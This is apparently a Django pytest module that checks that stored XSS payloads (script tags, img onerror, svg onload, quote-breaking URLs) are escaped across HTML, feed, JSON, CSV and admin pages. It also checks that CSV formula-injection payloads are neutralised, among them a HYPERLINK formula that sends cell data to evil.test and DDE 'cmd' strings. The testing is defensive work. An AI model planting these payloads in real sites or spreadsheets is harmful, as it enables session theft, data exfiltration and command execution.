"""The stored-XSS corpus (xss_records.txt): payloads in every imported field are escaped
on every page that shows them. Each check also finds the payload's marker, so a page that
stopped showing the field would fail rather than pass silently."""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import quote

import feedparser
import pytest
from django.contrib.auth import get_user_model

from articles.models import Keyword

from .conftest import MARKERS, raw_payloads

pytestmark = pytest.mark.django_db

TITLE_URL = "https://news.test/xss?q=%22%3E%3Cscript%3Ealert%28%27xss-link%27%29%3C%2Fscript%3E"


def body(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def inline_scripts(html: str) -> list[str]:
    """<script> tags that are not a same-origin file: under our CSP none may exist."""
    tags = re.findall(r"<script\b[^>]*>", html, re.I)
    return [tag for tag in tags if not re.search(r'\ssrc="/(?!/)', tag)]


def assert_safe(html: str, *markers: str) -> None:
    assert raw_payloads(html) == []
    assert inline_scripts(html) == []
    for marker in markers:
        assert marker in html, f"{marker} is not shown at all"


@pytest.fixture
def main(xss):
    return xss[TITLE_URL]


def test_the_corpus_is_stored_verbatim(xss, main):
    """The importer keeps the text as written: escaping is the pages' job."""
    assert main.title.startswith("<script>alert('xss-title')</script>")
    assert "<img src=x onerror=alert('xss-summary')>" in main.summary
    assert main.url == "https://news.test/xss?q=\"><script>alert('xss-link')</script>"
    assert Keyword.objects.filter(name="<svg onload=alert('xss-keyword')>").exists()


def test_list_page(client, xss):
    html = body(client.get("/articles/"))
    assert_safe(html, MARKERS["title"], MARKERS["keywords"], MARKERS["industries"])
    assert "&lt;script&gt;alert(&#x27;xss-title&#x27;)&lt;/script&gt;" in html


def test_detail_page(client, main):
    html = body(client.get(main.get_absolute_url()))
    assert_safe(html, *MARKERS.values())
    # The source link is an attribute value: quotes and brackets are entities there.
    assert 'href="https://news.test/xss?q=&quot;&gt;&lt;script&gt;' in html


@pytest.mark.parametrize(
    ("query", "markers"),
    [
        ("混元", ["xss-title", "xss-summary", "xss-title2"]),
        ("企业开放", ["xss-summary"]),
        ("<script>alert('xss-title')</script>", []),  # the query itself is echoed
        ("\"><img src=x onerror=alert('xss-industry')>", []),
    ],
)
def test_search_snippets_and_echoed_queries(client, xss, query, markers):
    html = body(client.get("/articles/?q=" + quote(query)))
    assert_safe(html, *markers)
    if markers:
        assert "<mark>" in html  # highlighting ran, and stayed the only markup


def test_company_page(client, xss):
    html = body(client.get("/companies/tencent/"))
    assert_safe(html, MARKERS["title"], MARKERS["technologies"], MARKERS["industries"])


@pytest.mark.parametrize(
    ("url", "marker"),
    [
        ("/keywords/", "xss-keyword"),
        ("/technologies/", "xss-tech"),
        ("/industries/", "xss-industry"),
        ("/", "xss-title"),
    ],
)
def test_tag_indexes_and_home(client, xss, url, marker):
    assert_safe(body(client.get(url)), marker)


def test_event_page(client, main):
    html = body(client.get(f"/events/{main.event_id}/"))
    assert_safe(html, MARKERS["title"])


def test_filter_chips_and_titles_of_payload_tags(client, xss):
    keyword = Keyword.objects.get(name="<svg onload=alert('xss-keyword')>")
    html = body(client.get(f"/articles/?keyword={quote(keyword.slug)}"))
    assert_safe(html, MARKERS["keywords"])


def test_feed(client, xss, main):
    response = client.get("/articles/feed/")
    xml = body(response)
    assert raw_payloads(xml) == []
    feed = feedparser.parse(xml)
    entries = {entry.link.rsplit("/articles/", 1)[1]: entry for entry in feed.entries}
    entry = entries[main.get_absolute_url().rsplit("/articles/", 1)[1]]
    assert entry.title == main.title  # escaped once for XML: readers get the text back
    # The description is HTML (type="html"): the payload is text in it, not markup.
    assert raw_payloads(entry.summary) == []
    assert "xss-event" in entry.summary


def test_json_escapes_markup_and_round_trips(client, xss, main):
    response = client.get("/articles.json")
    text = body(response)
    assert response["Content-Type"].startswith("application/json")
    assert "<" not in text and ">" not in text
    assert "\\u003cscript\\u003e" in text
    data = json.loads(text)
    item = next(item for item in data["results"] if item["id"] == main.pk)
    assert item["title"] == main.title and item["link"] == main.url


def test_csv_is_an_attachment_with_formulas_neutralised(client, xss):
    response = client.get("/articles.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = [row["title"] for row in rows]
    assert '\'=HYPERLINK("http://evil.test/?leak="&A1,"点击")' in titles
    assert "'+1+cmd|'/C calc'!A0 腾讯" in titles
    assert "'@SUM(1+1)*cmd|'/C calc'!A0 腾讯" in titles
    # A cell is plain text: the payload is there as typed, never as a formula.
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@"]


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser("root", "root@example.com", "x" * 20)
    client.force_login(user)
    return client


def test_admin_changelists_and_change_page(admin_client, xss, main):
    html = body(admin_client.get("/admin/articles/article/"))
    assert_safe(html, MARKERS["title"])
    html = body(admin_client.get(f"/admin/articles/article/{main.pk}/change/"))
    assert_safe(html, MARKERS["title"], MARKERS["summary"], MARKERS["event_summary"])
    for model, marker in (
        ("keyword", "xss-keyword"),
        ("technology", "xss-tech"),
        ("industry", "xss-industry"),
    ):
        assert_safe(body(admin_client.get(f"/admin/articles/{model}/")), marker)


def test_admin_search_echo(admin_client, xss):
    html = body(admin_client.get("/admin/articles/article/?q=" + quote("<script>alert(9)")))
    assert "<script>alert(9)" not in html and inline_scripts(html) == []


def test_the_checks_catch_an_unescaped_page():
    """The helpers themselves: a page with a raw payload or inline script fails."""
    with pytest.raises(AssertionError):
        assert_safe("<p><script>alert('xss-title')</script></p>", "xss-title")
    with pytest.raises(AssertionError):
        assert_safe("<script>var x = 1;</script><p>xss-title</p>", "xss-title")
    assert_safe('<script src="/static/admin/js/core.js"></script>xss-title', "xss-title")
